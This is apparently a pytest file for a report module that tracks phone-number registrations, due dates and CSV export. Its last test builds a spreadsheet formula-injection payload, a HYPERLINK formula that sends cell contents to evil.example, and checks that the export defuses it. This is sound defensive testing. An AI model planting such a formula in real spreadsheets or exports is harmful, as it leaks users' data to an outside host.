"""The report's data (`assistant.records.report`) and its CSV, without a browser: what each
number's cell says at each registry, and a CSV whose number column reads back as a number file."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest
from journalrows import FID, FakeClock, at, new_attempt, submit

from assistant.profiles.numberfiles import read_number_file
from assistant.records import report_page
from assistant.records.journal import Journal, State
from assistant.records.report import Listed, Pending, Standing, build, due_within

FID2 = "FCRFE10012026140300456"
REPLICA = "127.0.0.1:8765"


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock(at("2026-10-01 14:03"))


@pytest.fixture
def journal(tmp_path: Path, clock: FakeClock) -> Iterator[Journal]:
    with Journal.open(tmp_path / "data", clock=clock) as j:
        yield j


def test_each_registry_the_journal_names_is_a_column_and_a_real_registration_wins(
    journal: Journal, clock: FakeClock
) -> None:
    submit(journal, "+16195550100")
    clock.advance(days=10)
    # A later practice run (the replica) of the same number does not hide the real one.
    submit(journal, "+16195550100", fid=FID2, host=REPLICA, real=False)
    submit(journal, "+16195550100", fid=FID2, portal="vsf", host=REPLICA, real=False)
    made = build(journal.history(), today=date(2026, 12, 1))
    assert made.registries == ("fcr", "vsf")
    (row,) = made.rows
    fcr, vsf = row.standings
    assert (fcr.feedback_id, fcr.date, fcr.kind, fcr.next_due) == (
        FID,
        "2026-10-01",
        "real",
        "2026-12-30",
    )
    assert (vsf.feedback_id, vsf.date, vsf.kind, vsf.next_due) == (
        FID2,
        "2026-10-11",
        "practice",
        "2027-01-09",
    )
    assert fcr.status(date(2026, 12, 29)) == "registered"
    assert fcr.status(date(2026, 12, 30)) == "due"
    # A practice run registered nothing: never "registered", nor "due" (a CSV filtered on the
    # status must not count the replica's runs).
    assert vsf.status(date(2026, 12, 1)) == vsf.status(date(2027, 2, 1)) == "practice"
    assert row.next_due() == "2026-12-30"  # real registrations only


def test_unsettled_and_open_attempts_are_marked_and_profiles_never_sent_not_registered(
    journal: Journal,
) -> None:
    submit(journal, "+16195550100")
    unknown = journal.begin(new_attempt("+16195550100", "+16195550101"))
    journal.intent(unknown, confirmed_by="alice", review_values={})
    journal.unknown(unknown, "timeout")
    left = journal.start(new_attempt("+16195550102", host=REPLICA, real=False))
    listed = [
        Listed("+16195550103", "Bolt Plumbing", "/profiles/bolt.yaml", "BOLT"),
        Listed("+16195550100", "Bolt Plumbing", "/profiles/bolt.yaml", "BOLT MAIN"),
    ]
    made = build(journal.history(), listed, today=date(2026, 10, 2))
    rows = {r.number: r for r in made.rows}
    assert list(rows) == ["+16195550100", "+16195550101", "+16195550102", "+16195550103"]
    first = rows["+16195550100"]
    assert first.profiles == ("Bolt Plumbing", "Acme Dental")
    assert first.display_name == "BOLT MAIN"
    assert first.standings[0].pending == (Pending(unknown, State.UNKNOWN, True),)
    assert first.standings[0].attention() == f"attempt {unknown} unknown: settle it"
    assert rows["+16195550101"].standings[0].status(made.today) == "not registered"
    assert rows["+16195550102"].standings[0].attention() == (
        f"attempt {left} open (started) (practice)"
    )
    never = rows["+16195550103"]
    assert never.standings == (Standing("fcr"),)
    assert never.standings[0].status(made.today) == "not registered"
    assert made.counts == {"numbers": 4, "not registered": 3, "due": 0, "to look at": 3}


def test_an_empty_journal_still_lists_the_profiles_numbers() -> None:
    made = build([], [Listed("+16195550100", "Bolt", "/p/bolt.yaml")], today=date(2026, 10, 2))
    assert made.registries == ("fcr",)
    assert [s.status(made.today) for s in made.rows[0].standings] == ["not registered"]


def test_due_within_lists_every_registration_by_its_due_day(
    journal: Journal, clock: FakeClock
) -> None:
    submit(journal, "+16195550100")
    clock.advance(days=30)
    submit(journal, "+16195550101", fid=FID2)
    submit(journal, "+16195550102", fid=FID2, host=REPLICA, real=False)
    made = build(journal.history(), today=date(2027, 1, 5))
    every = due_within(made, None)
    assert [(d.row.number, d.standing.next_due, d.days_left) for d in every] == [
        ("+16195550100", "2026-12-30", -6),
        ("+16195550101", "2027-01-29", 24),
    ]
    assert [d.row.number for d in due_within(made, 0)] == ["+16195550100"]
    assert [d.row.number for d in due_within(made, 24)] == ["+16195550100", "+16195550101"]
    assert [d.row.number for d in due_within(made, 23)] == ["+16195550100"]
    assert [d.row.number for d in due_within(made, None, practice=True)] == [
        "+16195550100",
        "+16195550101",
        "+16195550102",
    ]


def test_the_csv_reads_back_as_a_number_file(journal: Journal, tmp_path: Path) -> None:
    submit(journal, "+16195550100", "+16195550101")
    listed = [Listed("+16195550102", "Bolt", "/p/bolt.yaml", "BOLT")]
    made = build(journal.history(), listed, today=date(2026, 10, 2))
    path = tmp_path / "numbers.csv"
    path.write_text(report_page.render_csv(made), encoding="utf-8", newline="")
    read = read_number_file(path, "numbers.csv")
    assert [(r.number, r.display_name) for r in read.rows] == [
        ("+16195550100", None),
        ("+16195550101", None),
        ("+16195550102", "BOLT"),
    ]
    # The number file's own columns come first and are read; what the report adds is ignored,
    # said in one warning.
    assert [p.severity for p in read.problems] == ["warning"]
    assert "is ignored" in read.problems[0].message or "are ignored" in read.problems[0].message


def test_the_csv_never_hands_a_spreadsheet_a_formula(journal: Journal) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    attempt = journal.begin(new_attempt("+16195550100", label="@SUM(1+1)"))
    journal.intent(attempt, confirmed_by="alice", review_values={})
    journal.submitted(attempt, hostile)
    made = build(journal.history(), today=date(2026, 10, 2))
    text = report_page.render_csv(made)
    header, row = list(csv.reader(io.StringIO(text)))
    cells = dict(zip(header, row, strict=True))
    assert cells["number"] == "+16195550100"
    assert cells["fcr_feedback_id"] == f"'{hostile}"
    assert cells["profiles"] == "'@SUM(1+1)"
    assert not any(c.startswith(("=", "@", "-")) for c in row)
